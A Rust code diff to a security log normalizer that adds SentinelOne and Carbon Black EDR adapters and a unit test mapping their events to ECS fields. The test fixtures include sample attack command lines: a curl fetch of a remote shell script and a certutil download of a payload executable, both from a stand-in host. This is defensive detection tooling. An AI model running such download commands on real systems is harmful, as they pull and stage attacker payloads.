@@ -361,6 +361,22 @@ pub fn normalize(mut obj: Map<String, Json>) -> (Map<String, Json>, Option<Strin
     if let Some(rule) = chainsaw_rule {
         obj.entry("rule").or_insert(rule);
     }
+    // Endpoint agents' own shapes: CrowdStrike Falcon detections, macOS eslogger exec events,
+    // osquery result lines, SentinelOne events, Carbon Black Cloud alerts (read before Splunk's
+    // CIM fields, which share `process_name`).
+    for adapter in [
+        edr::crowdstrike,
+        edr::eslogger,
+        edr::osquery,
+        edr::sentinelone,
+        edr::carbon_black,
+    ] {
+        if let Some((ecs, vid)) = adapter(&obj) {
+            obj = ecs;
+            id = id.or(vid);
+            break;
+        }
+    }
     // Splunk ES notables carry the CIM Endpoint fields (`process` is the command line there).
     if let Some(cim) = splunk_cim(&obj) {
         obj = cim;
@@ -373,15 +389,6 @@ pub fn normalize(mut obj: Map<String, Json>) -> (Map<String, Json>, Option<Strin
     if let Some((jp, jid)) = jamf_protect(&obj) {
         obj = jp;
         id = id.or(jid);
-    }
-    // Endpoint agents' own shapes: CrowdStrike Falcon detections, macOS eslogger exec events,
-    // osquery result lines.
-    for adapter in [edr::crowdstrike, edr::eslogger, edr::osquery] {
-        if let Some((ecs, vid)) = adapter(&obj) {
-            obj = ecs;
-            id = id.or(vid);
-            break;
-        }
     }
     // A Sigma engine's match that nests the matched event's own fields under `event`.
     if let Some(Json::Object(ev)) = obj.get("event").cloned()
@@ -1945,6 +1952,31 @@ mod tests {
         assert_eq!(api.doc["user"]["name"], "ann");
         // Something else that merely has a `cmdline` is not taken for Falcon.
         assert!(from_json(json!({"cmdline": "ls"}), "x").is_err());
+    }
+
+    #[test]
+    fn sentinelone_events_and_carbon_black_alerts_map_to_ecs() {
+        // A Deep Visibility process creation: the target is the new process, the source its parent.
+        let s1 = from_json(json!({"event.type": "Process Creation", "endpoint.name": "mbp-12", "endpoint.os": "osx",
+            "src.process.image.path": "/bin/zsh", "src.process.cmdline": "/bin/zsh -il", "src.process.user": "mara",
+            "src.process.parent.image.path": "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal",
+            "tgt.process.image.path": "/usr/bin/curl", "tgt.process.cmdline": "curl -fsSL http://x.example/i.sh", "tgt.process.pid": 5}), "x").unwrap();
+        assert_eq!(s1.doc["process"]["name"], "curl");
+        assert_eq!(s1.doc["process"]["pid"], 5);
+        assert_eq!(s1.doc["process"]["parent"]["command_line"], "/bin/zsh -il");
+        assert_eq!(s1.doc["process"]["parent"]["parent"]["name"], "Terminal");
+        assert_eq!(s1.doc["user"]["name"], "mara");
+        assert_eq!(s1.doc["host"]["os"]["type"], "macos");
+        let cb = from_json(json!({"id": "cb-1", "device_name": "HR-LT-207", "device_os": "WINDOWS",
+            "process_name": "certutil.exe", "process_cmdline": "certutil.exe -urlcache -f http://x.example/p.bin p.exe",
+            "process_username": "CONTOSO\\lena", "parent_name": "powershell.exe", "parent_cmdline": "powershell.exe -nop",
+            "ttps": ["T1105", "ATTACK_T1059_001"]}), "x").unwrap();
+        assert_eq!(cb.id, "cb-1");
+        assert_eq!(cb.doc["process"]["name"], "certutil.exe");
+        assert_eq!(cb.doc["process"]["parent"]["name"], "powershell.exe");
+        assert_eq!(cb.doc["user"]["domain"], "CONTOSO");
+        assert_eq!(cb.doc["host"]["os"]["type"], "windows");
+        assert_eq!(cb.doc["threat"]["technique"]["id"], json!(["T1105"]));
     }
 
     #[test]
